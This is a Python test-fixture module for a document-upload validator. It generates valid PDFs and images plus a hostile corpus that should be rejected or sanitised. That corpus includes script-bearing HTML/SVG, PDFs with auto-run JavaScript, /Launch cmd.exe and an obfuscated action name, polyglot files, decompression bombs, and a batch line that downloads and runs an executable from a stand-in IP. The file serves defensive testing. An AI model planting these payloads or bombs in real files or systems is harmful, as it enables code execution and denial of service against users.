"""Files built by the tests themselves: documents of real shapes, and a hostile corpus.

Nothing is downloaded: every file comes from pypdf, Pillow, WeasyPrint or a few bytes written here.
"""

import io
import struct
import zlib

from PIL import Image, ImageDraw, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from weasyprint import HTML

# --- Documents of real shapes ------------------------------------------------------------------


def pdf_weasyprint(pages: int = 2) -> bytes:
    """A text document as office software writes one: fonts, several pages, a link."""
    corps = "".join(
        f'<section style="page-break-after: always"><h1>Justificatif de domicile</h1><p>Page {n}. '
        'Facture du 12/03/2025, <a href="https://www.example.org/">espace client</a>.</p></section>'
        for n in range(1, pages + 1)
    )
    return HTML(string=f"<html><body>{corps}</body></html>").write_pdf()


def pdf_pypdf(pages: int = 3) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return _ecrire(writer)


def pdf_scan() -> bytes:
    """A scanner's PDF: one page holding a JPEG picture (what Pillow writes, like many scanners)."""
    sortie = io.BytesIO()
    photo(1240, 1754).save(sortie, "PDF", resolution=150)
    return sortie.getvalue()


def pdf_modifie() -> bytes:
    """A PDF edited after its creation: an incremental update appended, a second %%EOF at the end."""
    writer = PdfWriter(PdfReader(io.BytesIO(pdf_pypdf(1))), incremental=True)
    writer.add_metadata({"/Title": "Carte d'identité"})
    return _ecrire(writer)


def pdf_de_taille(octets: int) -> bytes:
    """A valid one-page PDF of exactly `octets` bytes: its page's content stream is padded."""

    def construire(remplissage: int) -> bytes:
        writer = PdfWriter()
        page = writer.add_blank_page(width=595, height=842)
        contenu = StreamObject()
        contenu.set_data(b" " * remplissage)
        page[NameObject("/Contents")] = writer._add_object(contenu)
        return _ecrire(writer)

    remplissage = octets - len(construire(0))
    while len(contenu := construire(remplissage)) != octets:  # the /Length's digits count too
        remplissage += octets - len(contenu)
    return contenu


def photo(largeur: int = 4032, hauteur: int = 3024, mode: str = "RGB") -> Image.Image:
    """Something like a photo of an ID card: gradients and shapes, not a flat colour."""
    image = Image.linear_gradient("L").resize((largeur, hauteur)).convert(mode)
    dessin = ImageDraw.Draw(image)
    dessin.rectangle(
        (largeur // 8, hauteur // 6, largeur * 7 // 8, hauteur * 5 // 6), outline="white", width=8
    )
    dessin.text((largeur // 4, hauteur // 2), "REPUBLIQUE FRANCAISE", fill="white")
    return image


def jpeg(image: Image.Image | None = None, **reglages) -> bytes:
    sortie = io.BytesIO()
    (image or photo()).save(sortie, "JPEG", quality=85, **reglages)
    return sortie.getvalue()


def jpeg_telephone() -> bytes:
    """A phone photo: EXIF with the position (GPS), the model, and an orientation to apply."""
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° to display
    exif[0x0110] = "Telephone X"  # Model
    exif[0x8825] = {1: "N", 2: (45.0, 45.0, 0.0), 3: "E", 4: (4.0, 50.0, 0.0)}  # GPSInfo: Lyon
    return jpeg(photo(4032, 3024), exif=exif.tobytes())


def png(image: Image.Image | None = None, **reglages) -> bytes:
    sortie = io.BytesIO()
    (image or photo(2480, 3508, "L")).save(sortie, "PNG", **reglages)
    return sortie.getvalue()


def _texte_png(texte: bytes) -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", texte.decode())
    return info


def png_transparent() -> bytes:
    image = photo(800, 600).convert("P", palette=Image.Palette.ADAPTIVE)
    return png(image, transparency=0)


VALIDES = {
    "PDF WeasyPrint (2 pages, polices, lien)": (pdf_weasyprint, "pdf", 2),
    "PDF pypdf (3 pages blanches)": (pdf_pypdf, "pdf", 3),
    "PDF de scanner (une image JPEG)": (pdf_scan, "pdf", 1),
    "PDF modifié (mise à jour incrémentale)": (pdf_modifie, "pdf", 1),
    "JPEG photo de téléphone (EXIF, GPS, orientation)": (jpeg_telephone, "jpeg", 1),
    "JPEG progressif": (lambda: jpeg(progressive=True), "jpeg", 1),
    "JPEG en niveaux de gris (scan)": (lambda: jpeg(photo(2480, 3508, "L")), "jpeg", 1),
    "JPEG CMJN": (lambda: jpeg(photo(1200, 900, "CMYK")), "jpeg", 1),
    "PNG scan A4 300 dpi en niveaux de gris": (png, "png", 1),
    "PNG RGBA": (lambda: png(photo(1200, 900, "RGBA")), "png", 1),
    "PNG palette avec transparence": (png_transparent, "png", 1),
    "PNG noir et blanc (1 bit)": (lambda: png(photo(2480, 3508, "1")), "png", 1),
}


# --- Hostile corpus ---------------------------------------------------------------------------

HTML_SCRIPT = b"<html><body><script>fetch('/eleves/').then(r => r.text()).then(alert)</script></body></html>"
SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"PE\x00\x00"
    + b"\x90" * 64
)
BAT = b'@echo off\r\npowershell -c "iwr http://203.0.113.9/x.exe -o x.exe; .\\x.exe"\r\n'


def _ecrire(writer: PdfWriter) -> bytes:
    sortie = io.BytesIO()
    writer.write(sortie)
    return sortie.getvalue()


def _pdf_avec(modifier) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf_pypdf(1)))
    modifier(writer)
    return _ecrire(writer)


def _action(type_: str, **entrees) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(type_)}
    )
    action.update({NameObject(f"/{cle}"): valeur for cle, valeur in entrees.items()})
    return action


def pdf_javascript_du_document() -> bytes:
    """Document-level JavaScript (the /Names tree), run by readers when the file opens."""

    def nommer(writer):
        scripts = ArrayObject(
            [TextStringObject("ouverture"), _action("/JavaScript", JS=TextStringObject("1"))]
        )
        writer.root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): scripts})}
        )

    return _pdf_avec(nommer)


def pdf_openaction_javascript() -> bytes:
    def ouvrir(writer):
        writer.root_object[NameObject("/OpenAction")] = _action(
            "/JavaScript", JS=TextStringObject("app.alert(1)")
        )

    return _pdf_avec(ouvrir)


def pdf_action_automatique_de_page() -> bytes:
    def page_aa(writer):
        writer.pages[0][NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): _action("/URI", URI=TextStringObject("https://203.0.113.9/"))}
        )

    return _pdf_avec(page_aa)


def pdf_lancement() -> bytes:
    def lancer(writer):
        writer.root_object[NameObject("/OpenAction")] = _action("/Launch", F=TextStringObject("cmd.exe"))

    return _pdf_avec(lancer)


def pdf_fichier_joint() -> bytes:
    return _pdf_avec(lambda w: w.add_attachment("facture.exe", EXE))


def pdf_formulaire_xfa() -> bytes:
    def xfa(writer):
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")}
        )

    return _pdf_avec(xfa)


def pdf_lien_javascript() -> bytes:
    def lien(writer):
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                NameObject("/A"): _action("/URI", URI=TextStringObject("javascript:alert(1)")),
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return _pdf_avec(lien)


def pdf_chiffre(mot_de_passe: str = "secret") -> bytes:
    return _pdf_avec(lambda w: w.encrypt(mot_de_passe, algorithm="AES-256"))


def pdf_nom_masque() -> bytes:
    """/JavaScript written /J#61vaScript, which PDF readers decode: a filter on raw bytes misses it."""
    return pdf_openaction_javascript().replace(b"/JavaScript", b"/J#61vaScript")


def pdf_sans_page() -> bytes:
    return _ecrire(PdfWriter())


def pdf_tronque() -> bytes:
    contenu = pdf_weasyprint()
    return contenu[: len(contenu) // 2]


def pdf_entete_html_puis_pdf() -> bytes:
    """A polyglot: HTML in a comment right after the header, then a real PDF: both a page and a PDF."""
    contenu = pdf_pypdf(1)
    entete, reste = contenu.split(b"\n", 1)
    return entete + b"\n%" + HTML_SCRIPT + b"\n" + reste


def png_bombe(cote: int = 30000) -> bytes:
    """A real decompression bomb: cote × cote pixels of 1 bit, a hundred kilobytes compressed."""
    ligne = b"\x00" + b"\x00" * (cote // 8)
    compresseur = zlib.compressobj(9)
    donnees = b"".join(compresseur.compress(ligne * 1000) for _ in range(cote // 1000)) + compresseur.flush()

    def morceau(type_: bytes, corps: bytes) -> bytes:
        return struct.pack(">I", len(corps)) + type_ + corps + struct.pack(">I", zlib.crc32(type_ + corps))

    entete = struct.pack(">IIBBBBB", cote, cote, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + morceau(b"IHDR", entete) + morceau(b"IDAT", donnees) + morceau(b"IEND", b"")


def jpeg_bombe(cote: int = 30000) -> bytes:
    """A small JPEG whose frame header declares cote × cote pixels."""
    contenu = bytearray(jpeg(photo(64, 64)))
    sof = contenu.index(b"\xff\xc0")
    contenu[sof + 5 : sof + 9] = struct.pack(">HH", cote, cote)
    return bytes(contenu)


def jpeg_tronque() -> bytes:
    contenu = jpeg(photo(1600, 1200))
    return contenu[: len(contenu) // 2]


def gif() -> bytes:
    sortie = io.BytesIO()
    photo(64, 64).save(sortie, "GIF")
    return sortie.getvalue()


REFUSES = {
    "fichier vide": (lambda: b"", "vide"),
    "%PDF- seul": (lambda: b"%PDF-", "pdf_abime"),
    "en-tête PDF suivi d'une page HTML avec script": (lambda: b"%PDF-1.7\n" + HTML_SCRIPT, "pdf_balisage"),
    "en-tête PDF suivi d'un SVG avec script": (lambda: b"%PDF-1.4\n" + SVG_SCRIPT, "pdf_balisage"),
    "polyglotte : HTML en commentaire d'un vrai PDF": (pdf_entete_html_puis_pdf, "pdf_balisage"),
    "PDF suivi d'une page HTML": (lambda: pdf_pypdf(1) + HTML_SCRIPT, "pdf_balisage"),
    "PDF suivi d'un exécutable": (lambda: pdf_pypdf(1) + EXE, "pdf_donnees_apres_fin"),
    "PDF avec JavaScript du document (/Names)": (pdf_javascript_du_document, "pdf_actif"),
    "PDF avec /OpenAction JavaScript": (pdf_openaction_javascript, "pdf_actif"),
    "PDF avec /J#61vaScript (nom masqué)": (pdf_nom_masque, "pdf_actif"),
    "PDF avec action automatique de page (/AA)": (pdf_action_automatique_de_page, "pdf_actif"),
    "PDF avec /Launch": (pdf_lancement, "pdf_actif"),
    "PDF avec un exécutable joint": (pdf_fichier_joint, "pdf_actif"),
    "PDF avec formulaire XFA": (pdf_formulaire_xfa, "pdf_actif"),
    "PDF avec lien javascript:": (pdf_lien_javascript, "pdf_actif"),
    "PDF chiffré par mot de passe": (pdf_chiffre, "pdf_chiffre"),
    "PDF chiffré sans mot de passe d'ouverture": (lambda: pdf_chiffre(""), "pdf_chiffre"),
    "PDF sans page": (pdf_sans_page, "pdf_abime"),
    "PDF tronqué": (pdf_tronque, "pdf_abime"),
    "page HTML": (lambda: HTML_SCRIPT, "type"),
    "image SVG avec script": (lambda: SVG_SCRIPT, "type"),
    "SVG derrière une déclaration XML": (lambda: b'<?xml version="1.0"?>' + SVG_SCRIPT, "type"),
    "exécutable Windows": (lambda: EXE, "type"),
    "GIF": (gif, "type"),
    "en-tête JPEG suivi d'un exécutable": (lambda: b"\xff\xd8\xff\xe0" + EXE, "image_abimee"),
    "en-tête JPEG suivi d'un .bat": (lambda: b"\xff\xd8\xff\xe0" + BAT, "image_abimee"),
    "en-tête JPEG suivi d'une page HTML": (lambda: b"\xff\xd8\xff\xe0" + HTML_SCRIPT, "image_abimee"),
    "en-tête PNG suivi d'un exécutable": (lambda: b"\x89PNG\r\n\x1a\n" + EXE, "image_abimee"),
    "JPEG tronqué": (jpeg_tronque, "image_abimee"),
    "bombe JPEG 30000 × 30000": (jpeg_bombe, "image_trop_grande"),
    "bombe PNG 30000 × 30000": (png_bombe, "image_trop_grande"),
    "PNG 10000 × 10000 (sous la limite de Pillow)": (lambda: png_bombe(10000), "image_trop_grande"),
    "PDF de plus de 11 Mo": (lambda: b"%PDF-1.4\n" + b"0" * (11 * 1024 * 1024), "trop_lourd"),
}

# Hostile parts an image can carry without being a broken image: the picture is kept, re-encoded,
# and the part is gone (the test checks that the stored bytes no longer hold it).
NEUTRALISES = {
    "JPEG suivi d'un exécutable": (lambda: jpeg(photo(800, 600)) + EXE, EXE[:16]),
    "JPEG suivi d'un .bat": (lambda: jpeg(photo(800, 600)) + BAT, b"powershell"),
    "JPEG avec un script en commentaire": (lambda: jpeg(photo(800, 600), comment=HTML_SCRIPT), b"<script>"),
    "JPEG avec position GPS dans l'EXIF": (jpeg_telephone, b"Telephone X"),
    "PNG avec un script en texte": (
        lambda: png(photo(800, 600), pnginfo=_texte_png(HTML_SCRIPT)),
        b"<script>",
    ),
    "PNG suivi d'une page HTML": (lambda: png(photo(800, 600)) + HTML_SCRIPT, b"<script>"),
}
